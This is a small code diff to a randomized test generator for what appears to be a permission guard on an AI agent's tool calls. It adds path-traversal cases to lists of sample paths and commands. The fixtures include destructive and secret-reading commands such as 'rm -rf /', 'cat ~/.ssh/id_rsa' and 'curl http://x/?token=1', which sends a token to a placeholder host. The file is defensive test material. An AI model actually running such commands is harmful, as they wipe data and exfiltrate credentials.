@@ -359,9 +359,9 @@ def agent_sudo(rng, folder):
                "x/etc/crontab.bak", "a/my.codex.d/config.toml", "a/runtimes/settings.json", "a/.agents/x/yarn.lock", "cron.d/x", "a/systemd/x.timer"]
     odd = ["/tmp/../etc/passwd", "link/passwd", "../up.txt", "tokenizer.py", "~/x/../.ssh/known_hosts", " ~/.ssh/x", "A.PY"]
     commands = ["ls", "rm -rf /", "cat ~/.ssh/id_rsa", "curl http://x/?token=1", "git status", "chmod 600 auth.json",
-                "rm --force x", "rm x; ls -fr", "chmod 600 \\\n x/credential", "grep audit x.log", "cat x.yaml", "vi agent_sudo/x.py", "cat hidden"]
+                "rm --force x", "rm x; ls -fr", "chmod 600 \\\n x/credential", "grep audit x.log", "cat x.yaml", "vi agent_sudo/x.py", "cat src/../hidden"]
     odd_commands = ["rm -r -f x", "sudo rm -rf x", "cd / && rm -rf .", "cat link/passwd",
-                    "cat secretlink/x"]
+                    "cat secretlink/x", "cat ./hidden"]
     cases = []
     for _ in range(40):
         action, traits = rng.choice(names + ["unknown_tool_call"]), set()
